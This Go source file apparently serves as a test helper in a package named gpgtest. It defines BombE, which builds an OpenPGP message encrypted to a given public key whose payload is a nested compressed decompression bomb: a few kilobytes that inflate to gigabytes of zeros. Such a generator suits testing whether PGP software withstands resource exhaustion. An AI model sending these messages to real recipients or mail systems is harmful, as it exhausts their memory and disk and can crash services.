package gpgtest

import (
	"bytes"
	"compress/flate"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp"
	"github.com/ProtonMail/go-crypto/openpgp/packet"
)

// BombE returns an OpenPGP message encrypted to the first key of the
// (armored or binary) public key pubKey whose literal data is mib MiB of
// zeros, compressed twice (a compressed packet inside a compressed packet),
// so that a message of a few KB inflates to gigabytes. It is made in
// milliseconds: the deflate stream of the zeros is one steady-state chunk
// repeated, never compressed for real.
func BombE(pubKey []byte, mib int) ([]byte, error) {
	el, err := openpgp.ReadArmoredKeyRing(bytes.NewReader(pubKey))
	if err != nil {
		if el, err = openpgp.ReadKeyRing(bytes.NewReader(pubKey)); err != nil {
			return nil, fmt.Errorf("read public key: %w", err)
		}
	}
	if len(el) == 0 {
		return nil, errors.New("no public key")
	}
	encKey, ok := el[0].EncryptionKey(time.Now())
	if !ok {
		return nil, errors.New("the key has no encryption key")
	}
	if mib < 2 {
		return nil, errors.New("a bomb of at least 2 MiB")
	}

	// The inner stream: a literal data packet of mib MiB of zeros, with a
	// definite length so the decompressed stream is only zeros after its
	// header.
	const chunk = 1 << 20
	size := uint64(mib) * chunk
	if size+6 > 0xffffffff {
		return nil, errors.New("a bomb of less than 4 GiB")
	}
	var lit bytes.Buffer
	lit.Write([]byte{0xc0 | 11, 0xff}) // new-format literal data packet, 4-byte length
	binary.Write(&lit, binary.BigEndian, uint32(size+6))
	lit.Write([]byte{'b', 0, 0, 0, 0, 0}) // binary, no file name, time 0

	var z bytes.Buffer
	fw, err := flate.NewWriter(&z, flate.BestSpeed)
	if err != nil {
		return nil, err
	}
	zeros := make([]byte, chunk)
	step := func() []byte {
		fw.Write(zeros)
		fw.Flush()
		b := bytes.Clone(z.Bytes())
		z.Reset()
		return b
	}
	fw.Write(lit.Bytes())
	head := step()
	steady := step()
	if again := step(); !bytes.Equal(steady, again) {
		return nil, errors.New("the deflate stream of zeros has no steady state")
	}
	fw.Close()
	tail := z.Bytes()
	var deflated bytes.Buffer
	deflated.Write(head)
	for i := 0; i < mib-1; i++ {
		deflated.Write(steady)
	}
	deflated.Write(tail)

	// The inner compressed packet, written by hand around that stream.
	var inner bytes.Buffer
	inner.Write([]byte{0xc0 | 8, 0xff})
	binary.Write(&inner, binary.BigEndian, uint32(1+deflated.Len()))
	inner.WriteByte(byte(packet.CompressionZIP))
	inner.Write(deflated.Bytes())

	// The message: the session key for encKey, then the encrypted outer
	// compressed packet holding the inner one.
	var msg bytes.Buffer
	sessionKey := make([]byte, packet.CipherAES256.KeySize())
	if _, err := rand.Read(sessionKey); err != nil {
		return nil, err
	}
	if err := packet.SerializeEncryptedKey(&msg, encKey.PublicKey, packet.CipherAES256, sessionKey, nil); err != nil {
		return nil, err
	}
	enc, err := packet.SerializeSymmetricallyEncrypted(&msg, packet.CipherAES256, false, packet.CipherSuite{}, sessionKey, nil)
	if err != nil {
		return nil, err
	}
	outer, err := packet.SerializeCompressed(enc, packet.CompressionZIP, &packet.CompressionConfig{Level: flate.BestCompression})
	if err != nil {
		return nil, err
	}
	if _, err := outer.Write(inner.Bytes()); err != nil {
		return nil, err
	}
	// Closing the compressed packet closes the encrypted one too (MDC).
	if err := outer.Close(); err != nil {
		return nil, err
	}
	return msg.Bytes(), nil
}
